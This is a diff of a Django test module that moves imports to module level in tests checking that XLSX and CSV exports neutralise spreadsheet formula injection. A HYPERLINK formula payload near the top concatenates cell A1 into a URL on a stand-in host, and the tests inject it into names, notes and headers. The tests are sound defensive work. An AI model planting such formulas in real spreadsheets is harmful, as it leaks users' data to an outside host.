@@ -11,6 +11,7 @@ from __future__ import annotations
 import csv
 import io
 import re
+from datetime import date
 from pathlib import Path
 from unittest import mock
 
@@ -19,6 +20,18 @@ from django.test import SimpleTestCase, TestCase
 from openpyxl import load_workbook
 
 from mtqg.core.tables import FORMULA_PREFIXES, Column, Table, write_xlsx
+from mtqg.geo.models import UnitVersion
+from mtqg.ntm import groups as ntm_groups
+from mtqg.ntm.excel import template_xlsx
+from mtqg.ntm.models import CriteriaSet
+from mtqg.ntm.tests.factories import load_all
+from mtqg.portal.datasets import DATASETS
+from mtqg.poverty import importer
+from mtqg.poverty.models import ImportBatch
+from mtqg.testing import make_world
+from mtqg.workflow import services
+from mtqg.workflow.calendar import load_calendars
+from mtqg.workflow.models import ReportingPeriod, ReportType
 
 HOSTILE = '=HYPERLINK("http://x.invalid/?"&A1,"bấm")'
 ROOT = Path(__file__).resolve().parents[1]
@@ -95,15 +108,9 @@ class WritersEnumeratedTest(SimpleTestCase):
 class WritersEscapeTest(TestCase):
     @classmethod
     def setUpTestData(cls) -> None:
-        from mtqg.testing import make_world
-
         cls.w = make_world()
 
     def test_workflow_note_round_trip_stays_text(self) -> None:
-        from mtqg.workflow import services
-        from mtqg.workflow.calendar import load_calendars
-        from mtqg.workflow.models import ReportingPeriod, ReportType
-
         load_calendars([2026])
         report = services.report_create(
             actor=None,
@@ -134,11 +141,6 @@ class WritersEscapeTest(TestCase):
         self.assertEqual(report.values.get(code=ws["A4"].value).note, HOSTILE)
 
     def test_ntm_template_escapes_names(self) -> None:
-        from mtqg.geo.models import UnitVersion
-        from mtqg.ntm.excel import template_xlsx
-        from mtqg.ntm.models import CriteriaSet
-        from mtqg.ntm.tests.factories import load_all
-
         load_all()
         province = self.w.dien_bien_old
         UnitVersion.objects.filter(path__startswith=province.path, level=3).update(name=HOSTILE)
@@ -150,20 +152,12 @@ class WritersEscapeTest(TestCase):
         assert_no_formula_xlsx(self, content, "ntm template")
 
     def test_ntm_groups_template_escapes_names(self) -> None:
-        from datetime import date
-
-        from mtqg.geo.models import UnitVersion
-        from mtqg.ntm.groups import template_xlsx
-
         province = self.w.dien_bien
         UnitVersion.objects.filter(path__startswith=province.path, level=3).update(name=HOSTILE)
-        content = template_xlsx(province, date(2026, 3, 1))
+        content = ntm_groups.template_xlsx(province, date(2026, 3, 1))
         self.assertGreater(assert_no_formula_xlsx(self, content, "ntm groups template"), 20)
 
     def test_poverty_templates_and_error_csv_escape(self) -> None:
-        from mtqg.poverty import importer
-        from mtqg.poverty.models import ImportBatch
-
         with (
             mock.patch.object(importer, "standard_for"),
             mock.patch.object(importer, "template_headers", return_value=[HOSTILE, "-x"]),
@@ -177,8 +171,6 @@ class WritersEscapeTest(TestCase):
         assert_no_formula_csv(self, importer.errors_csv(batch).decode(), "poverty errors csv")
 
     def test_portal_csv_escapes(self) -> None:
-        from mtqg.portal.datasets import DATASETS
-
         slug, ds = next(iter(DATASETS.items()))
         names = [f.name for f in ds.fields]
         with mock.patch.object(ds, "rows", lambda year: [dict.fromkeys(names, HOSTILE)]):
